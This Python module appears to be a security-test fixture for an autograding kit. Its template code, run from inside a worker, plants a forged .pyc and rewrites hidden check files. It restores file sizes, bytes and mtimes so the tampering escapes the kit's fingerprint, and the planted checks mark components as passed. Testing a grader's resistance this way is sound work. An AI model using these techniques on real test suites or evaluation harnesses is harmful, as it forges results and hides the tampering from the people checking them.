"""Attacks on the kit's own files from inside a worker (issue 12, "a kit that cannot be edited").

They target the hidden suite, which the judge imports after the first worker has started
(`grade_module` starts workers, then pytest collects): whatever a worker plants there before
collection runs *in the judge*. The planted code only leaves a trace (a file per attack) and
marks the stubs' components as passed; the tests look for both. Three ways:

- `pyc`: an unchecked-hash .pyc for `check_ops.py` in the suite's __pycache__; once it has run
  in the judge it puts back what was there, so the kit's fingerprint is the same after the run;
- `transient`: `check_nn_train.py` rewritten, and put back (bytes and mtime) by the planted code
  itself as soon as the judge has imported it;
- `persistent`: `check_gradcheck.py` rewritten to the same size, its mtime put back, and left
  so: this run is voided by the fingerprint, the question is the *next* run.
"""
from __future__ import annotations

ATTACK = '''
import importlib.util as _util
import marshal as _marshal
import os as _os

_SUITE = {suite!r}
_TRACE = {trace!r}
_PLANTS = {{
    "pyc": ("check_ops.py", {ops!r}),
    "transient": ("check_nn_train.py", ["micrograd.nn", "micrograd.train"]),
    "persistent": ("check_gradcheck.py", ["micrograd.gradcheck"]),
}}


def _planted(tag, components, restore=""):
    lines = ["import os, pathlib, pytest",
             f"with open(pathlib.Path({{_TRACE!r}}, {{tag!r}}), 'a') as trace:",
             "    trace.write(f'ran in the judge, pid {{os.getpid()}}\\\\n')",
             restore]
    for i, component in enumerate(components):
        lines += [f"@pytest.mark.component({{component!r}})", f"def check_planted_{{i}}():", "    pass"]
    return "\\n".join(lines) + "\\n"


def _plant():
    results = {{}}
    for tag, (name, components) in _PLANTS.items():
        path = _os.path.join(_SUITE, name)
        try:
            with open(path, "rb") as f:
                original = f.read()
            stat = _os.stat(path)
            if tag == "pyc":
                pyc = _util.cache_from_source(path)
                try:
                    with open(pyc, "rb") as f:
                        restore = f"pathlib.Path({{pyc!r}}).write_bytes({{f.read()!r}})"
                except OSError:
                    restore = f"os.remove({{pyc!r}})"
                code = compile(_planted(tag, components, restore), path, "exec")
                _os.makedirs(_os.path.dirname(pyc), exist_ok=True)
                with open(pyc, "wb") as f:
                    f.write(_util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8) + _marshal.dumps(code))
            elif tag == "transient":
                restore = (f"pathlib.Path({{path!r}}).write_bytes({{original!r}})\\n"
                           f"os.utime({{path!r}}, ns=({{stat.st_atime_ns}}, {{stat.st_mtime_ns}}))")
                with open(path, "w") as f:
                    f.write(_planted(tag, components, restore))
            else:  # same size, mtime put back
                text = _planted(tag, components)
                text += "#" * (len(original) - len(text.encode()) - 1) + "\\n"
                with open(path, "w") as f:
                    f.write(text)
                _os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns))
            results[tag] = "planted"
        except OSError as exc:
            results[tag] = f"refused: {{type(exc).__name__}}"
    return results


# One worker plants (several import this file at once); the import then fails, saying how far
# the attack got (the planted checks, if they run in the judge, pass whatever the worker says).
try:
    _os.close(_os.open(_os.path.join(_TRACE, "planting"), _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY))
except FileExistsError:
    raise RuntimeError("kit attack: another worker plants")
except OSError:
    raise RuntimeError(f"kit attack: {{_plant()}}")  # the trace folder out of sight: try all the same
raise RuntimeError(f"kit attack: {{_plant()}}")
'''
